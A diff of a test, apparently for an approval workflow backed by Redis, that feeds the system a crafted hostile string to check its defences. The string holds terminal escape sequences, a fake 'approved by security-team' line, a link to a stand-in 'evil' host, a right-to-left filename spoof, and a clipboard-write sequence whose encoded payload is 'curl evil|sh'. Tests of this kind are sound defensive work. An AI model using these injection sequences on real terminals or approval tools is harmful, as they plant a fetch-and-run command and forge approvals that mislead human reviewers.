@@ -105,7 +105,7 @@ describeWithService('redis', 'warden approvals against real Redis', () => {
       'ok\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\rstatus: approved\n' +
       'decided by: security-team\u009b31m\u009d8;;http://evil\u009c\u202egnp.exe\u200b\u0008\u007f';
     const id = await workflow.request({
-      requester: 'mallory\u001b[8m\u202e\u009b2J', // a principal may not hold CR, LF or NUL, but may hold these
+      requester: 'mallory\u202e\u200bgnp', // a principal may not hold control characters, but may hold these
       description: hostile,
       tier: 'peer-review',
       payload: { command: hostile, [hostile]: [hostile] },
